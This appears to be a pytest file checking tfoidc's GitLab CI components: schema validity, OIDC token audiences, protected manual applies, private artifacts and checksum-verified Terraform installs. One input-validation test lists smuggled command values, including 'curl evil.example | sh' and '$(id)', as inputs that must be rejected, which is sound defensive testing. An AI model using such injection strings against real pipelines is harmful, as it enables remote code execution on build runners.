"""The CI/CD components of templates/: their spec headers, the jobs they render with representative
inputs (valid against GitLab's CI schema), and the security decisions a team relies on when it includes
them (which jobs carry an ID token and for which audience, manual applies on the protected default
branch only, one run at a time per environment, private plan artifacts, report artifacts where `tfoidc
plan` writes them)."""

from __future__ import annotations

import functools
import hashlib
import http.server
import os
import re
import shutil
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.components import gitlab_component as gc
from tests.stacks.schema import check_gitlab_ci
from tfoidc.config import DEFAULT_PLAN_AUDIENCE
from tfoidc.report.render import FILENAMES
from tfoidc.stacks import templates

COMPONENTS = ("apply", "audit", "drift", "note", "plan", "stacks")
ON_DEFAULT_BRANCH = templates.ON_DEFAULT_BRANCH
APPLY_AUDIENCE = templates.DEFAULT_APPLY_AUDIENCE
ROLE = "arn:aws:iam::123456789012:role/gitlab-audit"

# Representative inputs: the defaults, and a team's own choices.
CASES: list[tuple[str, dict[str, Any]]] = [
    ("plan", {"environment": "prod"}),
    (
        "plan",
        {"environment": "team/eu-west-1", "image": "registry.example.com/tfoidc:0.1.0", "tfoidc_spec": ""},
    ),
    ("apply", {"environment": "prod"}),
    ("apply", {"environment": "dev", "stage": "apply-dev", "deployment_tier": "development"}),
    ("drift", {}),
    ("drift", {"environments": ["prod"], "terraform_distribution": "opentofu", "terraform_version": "1.8.5"}),
    ("note", {}),
    ("note", {"environments": "prod"}),
    ("audit", {"role_arn": ROLE}),
    ("audit", {"role_arn": "$TFOIDC_AUDIT_ROLE_ARN", "fail_on": "warn", "trail_s3": "s3://org-trail/logs"}),
    ("stacks", {}),
    ("stacks", {"terraform_sha256": "a" * 64, "terraform_plan_args": ""}),
]


def as_pipeline(rendered: dict[str, Any]) -> dict[str, Any]:
    stages = {str(j.get("stage")) for j in gc.jobs(rendered).values() if j.get("stage")}
    return {"stages": sorted(stages), **rendered}


def test_every_component_is_there_in_the_catalog_layout() -> None:
    assert tuple(gc.component_names()) == COMPONENTS


@pytest.mark.parametrize("name", COMPONENTS)
def test_spec_header_declares_typed_described_inputs(name: str, tmp_path: Path) -> None:
    component = gc.load(name)
    assert 0 < len(component.spec["description"]) <= 256
    for key, spec in component.inputs.items():
        assert re.fullmatch(r"[a-z][a-z0-9_]*", key), key
        assert spec.get("description"), f"{name}.{key} has no description"
        kind = spec.get("type", "string")
        assert kind in gc.TYPES
        if "default" in spec:
            # The default is held to the same rules as a given value.
            gc.resolve_inputs(component, {key: spec["default"]} | _required(component, key))
        if "regex" in spec:
            re.compile(spec["regex"])
    # Every input is used, and nothing used is undeclared.
    assert gc.referenced_inputs(component) == set(component.inputs)
    header = tmp_path / "spec.yml"
    header.write_text(yaml.safe_dump({"spec": component.spec}))
    result = check_gitlab_ci(header)
    assert result.returncode == 0, result.stdout + result.stderr


def _required(component: gc.Component, but: str) -> dict[str, Any]:
    samples = {"environment": "dev", "role_arn": ROLE}
    return {k: samples[k] for k, spec in component.inputs.items() if "default" not in spec and k != but}


@pytest.mark.parametrize(("name", "given"), CASES, ids=[f"{n}-{i}" for i, (n, _) in enumerate(CASES)])
def test_rendered_jobs_are_valid_gitlab_ci(name: str, given: dict[str, Any], tmp_path: Path) -> None:
    rendered = gc.render(name, given)
    assert "$[[" not in yaml.safe_dump(rendered)
    path = tmp_path / f"{name}.yml"
    path.write_text(yaml.safe_dump(as_pipeline(rendered), sort_keys=False))
    result = check_gitlab_ci(path)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_schema_check_catches_a_broken_rendering(tmp_path: Path) -> None:
    rendered = gc.render("plan", {"environment": "dev"})
    rendered["plan:dev"]["artifacts"]["access"] = "everyone"
    path = tmp_path / "broken.yml"
    path.write_text(yaml.safe_dump(as_pipeline(rendered)))
    assert check_gitlab_ci(path).returncode != 0


@pytest.mark.parametrize(
    ("name", "given", "error"),
    [
        ("plan", {"environment": "dev", "enviroment": "prod"}, "unknown input"),
        ("plan", {}, "'environment' is required"),
        ("plan", {"environment": "dev; curl evil.example | sh"}, "does not match"),
        ("plan", {"environment": "$PROD"}, "does not match"),
        ("plan", {"environment": "dev", "artifact_access": "all"}, "not one of"),
        ("plan", {"environment": "dev", "rules": "always"}, "must be a array"),
        ("plan", {"environment": "dev", "terraform_sha256": "deadbeef"}, "does not match"),
        ("plan", {"environment": "dev", "terraform_distribution": "tf"}, "not one of"),
        ("drift", {"environments": "dev staging"}, "must be a array"),
        ("note", {"environments": ["dev"]}, "must be a string"),
        ("note", {"environments": "dev $(id)"}, "does not match"),
        ("apply", {"environment": "prod", "rules": [{"when": "always"}]}, "unknown input"),
        ("apply", {"environment": "prod", "stage": 3}, "must be a string"),
        ("audit", {}, "'role_arn' is required"),
        ("audit", {"role_arn": ROLE, "fail_on": "never-ever"}, "not one of"),
    ],
)
def test_inputs_are_checked_as_gitlab_checks_them(name: str, given: dict[str, Any], error: str) -> None:
    with pytest.raises(gc.ComponentError, match=re.escape(error)):
        gc.render(name, given)


def test_an_input_keeps_its_type_where_it_is_the_whole_value() -> None:
    drift = gc.render("drift", {"environments": ["dev", "prod"]})["drift"]
    assert drift["parallel"]["matrix"] == [{"TF_ENV": ["dev", "prod"]}]
    plan = gc.render("plan", {"environment": "prod", "rules": [{"if": '$CI_COMMIT_TAG == "x"'}]})["plan:prod"]
    assert plan["rules"] == [{"if": '$CI_COMMIT_TAG == "x"'}]
    with pytest.raises(gc.ComponentError, match="cannot be part of a string"):
        gc.interpolate("envs: $[[ inputs.e ]]", {"e": ["a"]})
    with pytest.raises(gc.ComponentError, match="unknown interpolation key"):
        gc.interpolate("$[[ inputs.nope ]]", {})


# --- security decisions ---------------------------------------------------------------------------------


def _token_audiences(rendered: dict[str, Any]) -> dict[str, str | None]:
    return {
        name: (job.get("id_tokens") or {}).get(templates.TOKEN_VARIABLE, {}).get("aud")
        for name, job in gc.jobs(rendered).items()
    }


def test_only_jobs_that_exchange_a_token_get_one_for_their_own_audience() -> None:
    assert _token_audiences(gc.render("plan", {"environment": "prod"})) == {
        "plan:prod": DEFAULT_PLAN_AUDIENCE
    }
    assert _token_audiences(gc.render("apply", {"environment": "prod"})) == {"apply:prod": APPLY_AUDIENCE}
    assert _token_audiences(gc.render("drift")) == {"drift": DEFAULT_PLAN_AUDIENCE}
    assert _token_audiences(gc.render("audit", {"role_arn": ROLE})) == {
        "audit:roles": DEFAULT_PLAN_AUDIENCE,
        "audit:trail": DEFAULT_PLAN_AUDIENCE,
    }
    # The note and the stacks generator call no AWS API; the trigger runs no script at all.
    assert _token_audiences(gc.render("note")) == {"tfoidc:note": None}
    assert _token_audiences(gc.render("stacks")) == {"tfoidc:generate": None, "tfoidc:stacks": None}
    for name, given in CASES:
        for job in gc.jobs(gc.render(name, given)).values():
            for token in (job.get("id_tokens") or {}).values():
                assert token["aud"] in (DEFAULT_PLAN_AUDIENCE, APPLY_AUDIENCE)


@pytest.mark.parametrize("given", [{}, {"stage": "apply-prod", "artifact_access": "maintainer"}])
def test_apply_is_manual_on_the_protected_default_branch_only_one_at_a_time(given: dict[str, Any]) -> None:
    apply = gc.jobs(gc.render("apply", {"environment": "prod", **given}))["apply:prod"]
    plan = gc.jobs(gc.render("plan", {"environment": "prod"}))["plan:prod"]
    assert apply["rules"] == [{"if": ON_DEFAULT_BRANCH, "when": "manual"}]
    assert '$CI_COMMIT_REF_PROTECTED == "true"' in apply["rules"][0]["if"]
    assert apply["allow_failure"] is False  # a manual job that blocks the stages after it
    assert apply["interruptible"] is False and plan["interruptible"] is True
    assert apply["resource_group"] == plan["resource_group"] == "tfoidc/prod"
    assert apply["environment"]["name"] == "prod"
    assert apply["dependencies"] == ["plan:prod"]
    assert apply["script"] == ['tfoidc apply "$TF_ENV" --out-dir "tfoidc-out/$TF_ENV"']
    assert apply["variables"]["TF_ENV"] == "prod"


def test_no_component_has_a_manual_job_other_than_apply() -> None:
    for name, given in CASES:
        for job_name, job in gc.jobs(gc.render(name, given)).items():
            manual = job.get("when") == "manual" or any(
                r.get("when") == "manual" for r in job.get("rules", [])
            )
            assert not manual or job_name.startswith("apply:"), job_name


@pytest.mark.parametrize("env", ["dev", "team/eu-west-1"])
def test_plan_artifacts_are_private_expire_and_hold_the_reports_tfoidc_writes(env: str) -> None:
    plan = gc.jobs(gc.render("plan", {"environment": env}))[f"plan:{env}"]
    artifacts = plan["artifacts"]
    assert artifacts["access"] == "developer"
    assert artifacts["expire_in"] == "1 week"
    assert artifacts["paths"] == [f"tfoidc-out/{env}/"]
    # `tfoidc plan ENV --out-dir tfoidc-out/ENV` writes its reports into that folder itself.
    assert plan["script"] == ['tfoidc plan "$TF_ENV" --out-dir "tfoidc-out/$TF_ENV"']
    assert plan["variables"]["TF_ENV"] == env
    assert artifacts["reports"] == {
        kind: f"tfoidc-out/{env}/{FILENAMES[kind if kind != 'terraform' else 'gitlab-terraform']}"
        for kind in ("terraform", "junit", "codequality")
    }
    # The same files as the stacks' child plan jobs.
    child = templates.plan_job(env, audience=DEFAULT_PLAN_AUDIENCE, resource_group="g")
    assert artifacts["reports"] == child["artifacts"]["reports"]


def test_every_artifact_is_private() -> None:
    for name, given in CASES:
        for job_name, job in gc.jobs(gc.render(name, given)).items():
            artifacts = job.get("artifacts")
            if artifacts and name != "stacks":  # the generated pipeline and stack list hold no plan
                assert artifacts["access"] in ("developer", "maintainer", "none"), job_name
                assert artifacts["expire_in"], job_name


def test_the_audit_reads_the_account_with_the_audit_role_through_the_jobs_token() -> None:
    rendered = gc.jobs(gc.render("audit", {"role_arn": "$TFOIDC_AUDIT_ROLE_ARN", "trail_s3": "s3://t/p"}))
    for name, command in (("audit:roles", "tfoidc audit roles"), ("audit:trail", "tfoidc audit trail")):
        audit = rendered[name]
        line = audit["script"][-1]
        assert line.startswith(f'{command} --role-arn "$TFOIDC_ROLE_ARN" ')
        assert '--fail-on "$TFOIDC_AUDIT_FAIL_ON"' in line and "--output tfoidc-out/audit/" in line
        assert audit["variables"]["TFOIDC_ROLE_ARN"] == "$TFOIDC_AUDIT_ROLE_ARN"
        assert audit["variables"]["TERRAFORM_INSTALL"] == "false"
        assert audit["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule" && $TFOIDC_AUDIT == "true"'}]
    assert rendered["audit:trail"]["variables"]["TFOIDC_AUDIT_S3"] == "s3://t/p"


def test_plan_roles_never_take_the_state_lock() -> None:
    """Plan roles hold no lock writes (docs/security.md): every plan, drift and child plan runs
    `terraform plan -lock=false`."""
    assert (
        gc.render("plan", {"environment": "dev"})["plan:dev"]["variables"]["TF_CLI_ARGS_plan"]
        == "-lock=false"
    )
    assert gc.render("drift")["drift"]["variables"]["TF_CLI_ARGS_plan"] == "-lock=false"
    # The trigger's variables reach every job of the child pipeline.
    assert gc.render("stacks")["tfoidc:stacks"]["variables"]["TF_CLI_ARGS_plan"] == "-lock=false"
    assert "TF_CLI_ARGS_plan" not in gc.render("apply", {"environment": "dev"})["apply:dev"]["variables"]


def test_the_note_posts_for_each_environment_and_runs_when_a_plan_failed() -> None:
    note = gc.jobs(gc.render("note", {"environments": "dev prod"}))["tfoidc:note"]
    assert note["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"', "when": "always"}]
    assert "id_tokens" not in note
    script = "\n".join(note["script"])
    completed = subprocess.run(
        ["bash", "-c", script.replace("tfoidc comment", "printf '%s\\n'")],
        env={"PATH": os.environ["PATH"], "TFOIDC_ENVIRONMENTS": note["variables"]["TFOIDC_ENVIRONMENTS"]},
        capture_output=True,
        text=True,
        check=True,
    )
    assert completed.stdout.split() == [
        "--analysis",
        "tfoidc-out/dev/tfoidc.json",
        "--analysis",
        "tfoidc-out/prod/tfoidc.json",
    ]


def test_the_stacks_component_is_the_parent_pipeline_tfoidc_init_writes() -> None:
    rendered = gc.jobs(gc.render("stacks"))
    parent = templates.parent_jobs("python:3.11-slim")
    for name in (templates.GENERATE_JOB, templates.TRIGGER_JOB):
        for key in ("script", "rules", "trigger", "needs", "artifacts"):
            assert rendered[name].get(key) == parent[name].get(key), (name, key)
    assert rendered[templates.GENERATE_JOB]["variables"]["TERRAFORM_INSTALL"] == "false"
    assert parent[templates.GENERATE_JOB]["variables"]["TERRAFORM_INSTALL"] == "false"
    forwarded = rendered[templates.TRIGGER_JOB]["variables"]
    assert set(forwarded) == {
        "TFOIDC_PIP_SPEC",
        "TERRAFORM_VERSION",
        "TERRAFORM_SHA256",
        "TERRAFORM_DISTRIBUTION",
        "TF_CLI_ARGS_plan",
    }


@pytest.mark.parametrize("name", COMPONENTS)
def test_every_job_that_runs_tfoidc_installs_it_the_one_way(name: str) -> None:
    for job in gc.jobs(gc.render(name, _required(gc.load(name), but=""))).values():
        if "script" in job:
            assert job["before_script"] == templates.INSTALL_SCRIPT
            assert job["image"] == "python:3.11-slim"


# --- the install script ---------------------------------------------------------------------------------


def _run_install(
    tmp_path: Path, env: dict[str, str], *, with_terraform: bool
) -> subprocess.CompletedProcess[str]:
    """The install steps with a PATH of the tools a slim image has; `tfoidc` and `pip` are stubs."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(parents=True)
    for tool in ("bash", "python3", "sha256sum", "install", "rm", "cat", "git", "mktemp"):
        found = shutil.which(tool)
        if found:
            (bin_dir / tool).symlink_to(found)
    (bin_dir / "tfoidc").write_text("#!/bin/sh\necho tfoidc 0.1.0\n")
    (bin_dir / "pip").write_text('#!/bin/sh\necho "pip $*" >> "$PIP_LOG"\n')
    if with_terraform:
        (bin_dir / "terraform").write_text("#!/bin/sh\necho Terraform v1.9.8\n")
    for stub in bin_dir.iterdir():
        if not stub.is_symlink():
            stub.chmod(0o755)
    script = "set -eo pipefail\n" + "\n".join(templates.INSTALL_SCRIPT)
    return subprocess.run(
        [str(bin_dir / "bash"), "-c", script],
        env={
            "PATH": f"{bin_dir}:{env.get('TERRAFORM_INSTALL_DIR', bin_dir)}",
            "PIP_LOG": str(tmp_path / "pip.log"),
            "TERRAFORM_VERSION": "1.9.8",
            **env,
        },
        capture_output=True,
        text=True,
        check=False,
        timeout=30,
    )


def test_install_downloads_nothing_without_a_checksum(tmp_path: Path) -> None:
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    result = _run_install(tmp_path, {"TERRAFORM_SHA256": ""}, with_terraform=False)
    assert result.returncode == 2
    assert "set terraform_sha256" in result.stderr
    assert "terraform_1.9.8_linux_amd64.zip" in result.stderr


def test_install_skips_what_the_image_has(tmp_path: Path) -> None:
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    result = _run_install(tmp_path, {"TFOIDC_PIP_SPEC": ""}, with_terraform=True)
    assert result.returncode == 0, result.stderr
    assert "Terraform v1.9.8" in result.stdout
    assert not (tmp_path / "pip.log").exists()


def test_install_pins_tfoidc_and_jobs_without_terraform_skip_it(tmp_path: Path) -> None:
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    spec = "tfoidc @ git+https://gitlab.example.com/platform/tfoidc.git@v0.1.0"
    result = _run_install(
        tmp_path, {"TFOIDC_PIP_SPEC": spec, "TERRAFORM_INSTALL": "false"}, with_terraform=False
    )
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "pip.log").read_text() == f"pip install --quiet {spec}\n"


@pytest.fixture
def release(tmp_path: Path) -> Iterator[tuple[str, str]]:
    """A Terraform release zip served over HTTP on 127.0.0.1 (an internal mirror): its URL and SHA-256."""
    dist = tmp_path / "mirror"
    dist.mkdir()
    archive = dist / "terraform_1.9.8_linux_amd64.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("terraform", "#!/bin/sh\necho Terraform v1.9.8 from the mirror\n")
        zf.writestr("LICENSE.txt", "licence")
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(dist))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/{archive.name}"
        yield url, hashlib.sha256(archive.read_bytes()).hexdigest()
    finally:
        server.shutdown()


def test_install_verifies_the_checksum_of_the_downloaded_terraform(
    tmp_path: Path, release: tuple[str, str]
) -> None:
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    url, digest = release
    target = tmp_path / "tools"
    target.mkdir()
    env = {"TERRAFORM_DOWNLOAD_URL": url, "TERRAFORM_INSTALL_DIR": str(target), "TFOIDC_PIP_SPEC": ""}
    tampered = _run_install(tmp_path / "a", {**env, "TERRAFORM_SHA256": "0" * 64}, with_terraform=False)
    assert tampered.returncode != 0
    assert "FAILED" in tampered.stdout + tampered.stderr
    assert not (target / "terraform").exists()
    good = _run_install(tmp_path / "b", {**env, "TERRAFORM_SHA256": digest}, with_terraform=False)
    assert good.returncode == 0, good.stderr
    assert (target / "terraform").stat().st_mode & 0o111
    assert not (target / "LICENSE.txt").exists()  # the binary only


def test_the_image_pins_what_the_install_step_would_download() -> None:
    """images/Dockerfile: the same release URLs as the install step, no default checksum, checked."""
    dockerfile = (gc.REPO / "images" / "Dockerfile").read_text()
    assert re.search(r"^ARG TERRAFORM_SHA256$", dockerfile, re.M)  # no default: no checksum, no download
    assert "sha256sum -c -" in dockerfile
    install = "\n".join(templates.INSTALL_SCRIPT)
    for url in re.findall(r'url="(https://[^"]+)"', dockerfile):
        assert url in install
    assert len(re.findall(r'url="(https://[^"]+)"', dockerfile)) == 2


# --- the documentation --------------------------------------------------------------------------------


def test_the_docs_list_every_component_and_input_with_its_default() -> None:
    """docs/gitlab.md's reference (the catalog's README links it): one table per component, a row per
    input with its type and default as the spec declares them."""
    docs = (gc.REPO / "docs" / "gitlab.md").read_text()
    for name in COMPONENTS:
        section = docs.split(f"### `{name}`", 1)
        assert len(section) == 2, f"no section for {name}"
        table = section[1].split("###", 1)[0]
        rows = {line.split("|")[1].strip(): line for line in table.splitlines() if line.startswith("| `")}
        inputs = gc.load(name).inputs
        assert set(rows) == {f"`{key}`" for key in inputs}, name
        for key, spec in inputs.items():
            assert f"| {spec.get('type', 'string')} |" in rows[f"`{key}`"], (name, key)
            shown = '""' if spec.get("default") == "" else spec.get("default")
            default = "(required)" if "default" not in spec else f"`{shown}`"
            if isinstance(spec.get("default"), list):
                default = (
                    "`" + yaml.safe_dump(spec["default"], default_flow_style=True, width=10_000).strip() + "`"
                )
            assert default in rows[f"`{key}`"], (name, key)


def test_the_pipelines_in_the_docs_expand_to_valid_gitlab_ci(tmp_path: Path) -> None:
    """The examples a team copies from docs/gitlab.md: every include resolves, every job's stage is
    declared, and the expanded pipeline passes GitLab's schema."""
    docs = (gc.REPO / "docs" / "gitlab.md").read_text()
    examples = [b for b in re.findall(r"```yaml\n(.*?)```", docs, re.S) if "include:" in b]
    assert len(examples) == 2
    for i, text in enumerate(examples):
        example = yaml.safe_load(text)
        expanded = gc.expand_includes(example, "$CI_SERVER_FQDN/platform/tfoidc")
        for name, job in gc.jobs(expanded).items():
            assert job.get("stage") in example["stages"], (i, name)
        path = tmp_path / f"example-{i}.yml"
        path.write_text(yaml.safe_dump(expanded, sort_keys=False))
        result = check_gitlab_ci(path)
        assert result.returncode == 0, result.stdout + result.stderr


def _command_lines() -> list[tuple[str, str, dict[str, str]]]:
    """Every `tfoidc ...` line of every rendered job, with the job's variables."""
    out = []
    for name, given in CASES:
        for job_name, job in gc.jobs(gc.render(name, given)).items():
            variables = {k: str(v) for k, v in (job.get("variables") or {}).items()}
            if "parallel" in job:
                variables["TF_ENV"] = job["parallel"]["matrix"][0]["TF_ENV"][0]
            for line in job.get("script", []):
                for part in line.splitlines():
                    if part.strip().startswith("tfoidc "):
                        out.append((job_name, part.strip(), variables))
    return out


def test_every_tfoidc_command_of_the_components_is_one_tfoidc_accepts() -> None:
    """The command lines, expanded by bash with the job's variables, parse with tfoidc's own options:
    a renamed option or command fails here, not in a team's pipeline."""
    import click

    from tfoidc.cli.main import cli

    lines = _command_lines()
    assert {line.split()[1] for _, line, _ in lines} >= {
        "plan",
        "apply",
        "drift",
        "comment",
        "audit",
        "pipeline",
    }
    for job_name, line, variables in lines:
        env = {"PATH": os.environ["PATH"], "TFOIDC_ENVIRONMENTS": "dev", **variables}
        env = {k: v.replace("$CI_PROJECT_DIR", "/builds/p") for k, v in env.items()}
        # `tfoidc comment "$@"`: the note's loop sets the arguments.
        prefix = 'set -- --analysis "tfoidc-out/dev/tfoidc.json"; '
        words = subprocess.run(
            ["bash", "-c", prefix + "printf '%s\\0' " + line.removeprefix("tfoidc ")],
            env=env,
            capture_output=True,
            text=True,
            check=True,
        ).stdout.split("\0")[:-1]
        ctx = cli.make_context("tfoidc", list(words))
        command: click.Command = cli
        args = [*ctx._protected_args, *ctx.args]
        while isinstance(command, click.Group):
            sub_name, sub, args = command.resolve_command(ctx, args)
            assert sub is not None and sub_name, (job_name, line)
            command = sub
            ctx = command.make_context(sub_name, list(args), parent=ctx)
            args = [*ctx._protected_args, *ctx.args] if isinstance(command, click.Group) else ctx.args
        assert not args, (job_name, line, args)
